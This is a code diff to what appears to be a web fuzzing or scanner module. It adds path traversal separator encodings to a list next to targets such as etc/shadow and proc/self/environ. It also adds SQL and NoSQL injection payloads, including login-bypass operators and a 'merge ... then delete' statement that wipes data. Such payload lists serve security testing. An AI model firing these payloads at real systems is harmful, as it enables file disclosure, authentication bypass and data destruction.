@@ -29,7 +29,7 @@ SEPARATORS = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c
               "%e0%80%af", "%u2215", "%u2216", "%uff0f", "%ef%bc%8f", "0x2f", "0x5c", "%%32%66",
               "//", "\\\\", "/./", "%25c0%25af", "%c1%1c", "%uEFC8", "%uF025",
               "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%%35c", "%25%35%63",
-              "%25%32%66"]
+              "%25%32%66", "%c0%qf", "%bg%qf", "%c1%pc", "%c0%9v", "%c1%8s"]
 TARGETS = ["etc/passwd", "etc/shadow", "etc/issue", "etc/hosts", "etc/group", "windows/win.ini",
            "boot.ini", "winnt/win.ini", "windows/system32/drivers/etc/hosts", "proc/self/environ",
            "proc/self/cmdline", "var/log/apache2/access.log", "var/log/nginx/error.log",
@@ -127,7 +127,13 @@ def sqli_families():
             "' or ''='", "\"' or 1 --'\"", "or 1=1--", "' or a=a--", "hi' or 1=1 --", "'hi' or 'x'='x';",
             "1 and user_name() = 'dbo'", "' and substring(password/text(),1,1)='7", "1 union all select null,null,null--",
             "AND 1=1", "AND 1=0", "1-false", "' AND 1=CONVERT(int,(SELECT @@version))--", "1' and extractvalue(rand(),concat(0x3a,(select version())))--",
-            "' OR EXISTS(SELECT 1 FROM dual)--", "1 RLIKE (SELECT 1)", "admin' or '1'='1'/*", "') or true--", "\") or true--"]
+            "' OR EXISTS(SELECT 1 FROM dual)--", "1 RLIKE (SELECT 1)", "admin' or '1'='1'/*", "') or true--", "\") or true--",
+            # NoSQL operators, integer boundaries, JSON operators, MySQL's bare exponent, merge.
+            '{"login": {"$gt": ""}}', "login[$ne]=nobody", '{"$where": "this.a == this.b"}', "[$regex]=^a",
+            "2147483647", "-2147483648", "4294967296", "9223372036854775808", "1e400", "2.2250738585072011e-308",
+            "1' and '{}'::jsonb @> '{}'::jsonb--", "' or data->>'role' = 'admin'--", "1.e(select 1)",
+            "1.e,version() from users", "' or match(title) against('x')--",
+            "merge into accounts using dual on (1=1) when matched then delete"]
     return out
 
 
